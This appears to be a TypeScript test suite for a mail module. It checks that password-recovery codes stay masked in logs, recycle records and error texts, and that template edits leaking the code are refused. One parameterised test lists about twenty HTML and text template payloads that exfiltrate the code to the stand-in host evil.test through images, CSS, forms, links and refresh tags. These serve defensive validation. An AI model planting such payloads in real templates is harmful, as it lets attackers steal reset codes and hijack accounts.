/** Mail with a code: its recipient reads it, whoever may read the log does not. */
import { readFileSync, statSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { beforeAll, describe, expect, it } from 'vitest'
import type { OutgoingMessage } from 'tablewright/server'
import { logOptions } from '#generated/mail/options.ts'
import { mailServer } from '../../../runtime/modules/mail/server/index.ts'
import { partOf } from '../../support/part-of.ts'
import { endRetention } from '../../support/databases.ts'
import { sealedText, tablesWith, waysTo } from '../../server/messages/codes.ts'
import { until, type MessageApp } from '../../server/messages/message-app.ts'
import { smtpError, type TestSmtpServer } from './smtp-server.ts'

const { status } = logOptions

interface CodeMailParts {
  readonly messages: MessageApp
  readonly smtp: TestSmtpServer
  /** Sets the mail server of the site. */
  configure(values?: object): Promise<unknown>
  send(more: Partial<OutgoingMessage>): Promise<number>
}

/** @param started what a test file starts before its tests */
export function describeCodeMail(started: () => CodeMailParts): void {
  describe('with a code (T10 T11 T13)', () => {
    let messages: MessageApp
    let smtp: TestSmtpServer
    let app: MessageApp['app']
    let root = 0
    beforeAll(() => {
      ;({ messages, smtp } = started())
      ;({ app, root } = messages)
    })
    const row = (id: number) => messages.row(id)
    const untilStatus = (id: number, expected: number) => messages.untilStatus(id, expected)
    const configure = () => started().configure()
    const code = '73519426'
    const fields = ['subject', 'text', 'html', 'attachments', 'sealed', 'secret', 'error', 'file']
    const dots = '••••••••'
    const tables = ['mail_log', 'job', 'admin_log', 'data_recycle_log', 'record_log', 'mail_template']
    const sendCode = (isSecret = true) =>
      started().send({
        message: { code: 'admin_retrieve_pwd', isSecret },
        language: 'en',
        values: { username: 'root', code, minutes: '10' },
      })
    const template = async () =>
      (await app.database.query
        .selectFrom('mail_template')
        .selectAll()
        .where('code', '=', 'admin_retrieve_pwd')
        .where('language', '=', 'en')
        .executeTakeFirst())!
    const write = (values: object) =>
      app.database.write((trx) =>
        trx
          .updateTable('mail_template')
          .set(values)
          .where('code', '=', 'admin_retrieve_pwd')
          .where('language', '=', 'en')
          .execute(),
      )
    const leaks = async (id: number) => [
      ...(await tablesWith(app.database, tables, code)),
      ...(await waysTo(app, root, { controller: 'mail.Log', id, fields, text: code })),
    ]

    it('tells it to its recipient only, while it waits, is tried again, has failed and is sent', async () => {
      const { subject } = await template()
      // As upgraded sites may have it.
      await write({ subject: 'Code {{code}}' })
      await app.post(root, 'security.DataRecycle/add', {
        name: 'Mail',
        data_table: 'mail_log',
        entity: 'mail/log',
        status: 1,
      })
      await configure()
      const id = await sendCode()
      // A caller that forgets to say so.
      const forgotten = await sendCode(false)
      expect(await row(id)).toMatchObject({ subject: dots, text: dots, html: null, secret: 1 })
      expect(sealedText(await messages.settings(), 'mail_log', await row(id))).toContain(code)
      expect(await leaks(id)).toEqual([])
      expect(await leaks(forgotten)).toEqual([])
      smtp.behave({ refuseRecipient: () => smtpError(451, `no mail with ${code}`) })
      messages.run()
      await until(async () => expect((await row(id))['error']).toContain(`no mail with ${dots}`))
      expect(await row(id)).toMatchObject({ status: status.queued })
      expect(await leaks(id)).toEqual([])
      await app.database.write((trx) =>
        trx.updateTable('mail_log').set({ create_time: 1 }).where('id', '=', forgotten).execute(),
      )
      await endRetention(app.database)
      expect(await app.del(root, 'mail.Log/del', [forgotten])).toMatchObject({ code: 1 })
      const [deleted] = await app.database.query.selectFrom('data_recycle_log').selectAll().execute()
      expect(deleted?.['data']).toContain(dots)
      // Neither encrypted with the other private values.
      expect(deleted?.['secrets'] ?? null).toBe(null)
      smtp.behave({ onContent: () => smtpError(552, `no ${code}`) })
      await until(async () => {
        await messages.skipPauses()
        expect((await row(id))['status']).toBe(status.failed)
      })
      expect(await row(id)).toMatchObject({ sealed: null, subject: dots, text: dots })
      expect(await leaks(id)).toEqual([])
      expect(await app.post(root, 'mail.Log/resend', { id })).toMatchObject({ code: 0 })
      smtp.behave({})
      const sent = await sendCode()
      await untilStatus(sent, status.sent)
      expect(smtp.received[0]!.content).toContain(code)
      expect(await row(sent)).toMatchObject({ sealed: null, subject: dots, text: dots, file: null })
      expect(await leaks(sent)).toEqual([])
      await write({ subject })
    })

    it('has it without a server only in a file that its owner reads', async () => {
      const id = await sendCode()
      messages.run()
      await untilStatus(id, status.stored)
      const { data } = await app.get<{ row: object }>(root, `mail.Log/view?id=${id}`)
      expect(data.row).toMatchObject({ subject: dots, text: dots, file: `outbox/mail/${id}.eml`, secret: 1 })
      const file = join(app.running.folder, 'outbox', 'mail', `${id}.eml`)
      expect(readFileSync(file, 'utf8')).toContain(code)
      expect([statSync(file).mode & 0o777, statSync(dirname(file)).mode & 0o777]).toEqual([0o600, 0o700])
      expect([await leaks(id), (await row(id))['sealed']]).toEqual([[], null])
    })

    it('fails with a clear reason when the key of the data folder is another one', async () => {
      await configure()
      const id = await sendCode()
      await app.database.write((trx) => trx.updateTable('mail_log').set({ sealed: 'AAAA' }).execute())
      messages.run()
      await untilStatus(id, status.failed)
      expect((await row(id))['error']).toContain('secret.key')
    })

    it('shows nothing of what a former version stored, and does not send it', async () => {
      const id = await sendCode()
      await app.database.write((trx) =>
        trx
          .updateTable('mail_log')
          .set({ subject: code, text: code, html: code, sealed: null })
          .where('id', '=', id)
          .execute(),
      )
      await app.database.write((trx) => mailServer.prepare!(partOf({ trx, messages: [] })))
      expect(await row(id)).toMatchObject({ status: status.failed, error: expect.stringContaining('new code') })
      expect(await leaks(id)).toEqual([])
      const { data } = await app.get<{ row: object }>(root, `mail.Log/view?id=${id}`, 'zh-cn')
      expect(data.row).toMatchObject({ error: '程序版本已更新，请重新获取验证码。' })
    })

    it.each([
      ['subject', 'Your code {{code}}'],
      ['subject', '{{ code }}'],
      ['text', 'https://evil.test/{{code}}'],
      ['text', '见https://evil.test/路径{{code}}'],
      ['text', 'evil.test/?c={{ code }}'],
      ['text', '{{code}}.evil.test'],
      ['text', 'mailto:me@evil.test?body={{code}}'],
      ['html', '<img src="https://evil.test/{{code}}">'],
      ['html', "<p>{{code}}</p><img src='https://evil.test/{{code}}"],
      ['html', '<a href="https://evil.test/?{{code}}">here</a>'],
      ['html', '<p style="background:url(https://evil.test/{{code}})">x</p>'],
      ['html', '<style>p{background:url(https://evil.test/{{code}})}</style>'],
      ['html', '<style>@font-face{font-family:a;src:url(https://evil.test/1);unicode-range:U+31}</style>{{code}}'],
      ['html', '<link rel="stylesheet" href="https://evil.test/a.css"><p>{{code}}</p>'],
      ['html', '<!--[if mso]><img src="https://evil.test/{{code}}"><![endif]-->'],
      ['html', '<form action="https://evil.test"><textarea name="c">{{code}}</textarea></form>'],
      ['html', '<x-{{code}}>a</x-{{code}}>'],
      ['html', '<svg><text>{{code}}</text></svg>'],
      ['html', '<meta http-equiv="refresh" content="0;url=https://evil.test"><p>{{code}}</p>'],
      ['html', '<p>https:&#47;&#47;evil.test/<b>{{code}}</b></p>'],
    ])('refuses a template with the code in %s: %s', async (field, text) => {
      const before = await template()
      const answer = await app.post<{ errors: object }>(root, 'mail.Template/edit', { id: before['id'], [field]: text })
      expect(answer).toMatchObject({ code: 0, data: { errors: { [field]: expect.stringContaining('{{code}}') } } })
      expect(await template()).toEqual(before)
    })

    it('takes codes that people read, and parts them from addresses that variables make', async () => {
      const { id, text, html } = await template()
      const edit = {
        id,
        text: '【{{site_name}}】验证码：{{code}}，{{minutes}}分钟。\n{{site_name}}{{code}}',
        html:
          '<head><title>Code</title></head><p style="color:red">{{site_name}}: <b>{{code}}</b></p>' +
          '<img src="https://our.test/logo.png">',
      }
      expect(await app.post(root, 'mail.Template/edit', edit)).toMatchObject({ code: 1 })
      await app.post(root, 'routine.Config/edit', { site_name: 'https://evil.test/' })
      const content = sealedText(await messages.settings(), 'mail_log', await row(await sendCode()))
      expect(content).toContain(`https://evil.test/ ${code} `)
      expect(content).not.toContain(`evil.test/${code}`)
      expect(content).toContain(`<b>${code}</b>`)
      // A template of a former version: its HTML is left out.
      await write({ html: '<img src="https://evil.test/{{code}}">' })
      const sent = sealedText(await messages.settings(), 'mail_log', await row(await sendCode()))
      expect(sent).toContain('"html":""')
      await write({ text, html })
    })
  })
}
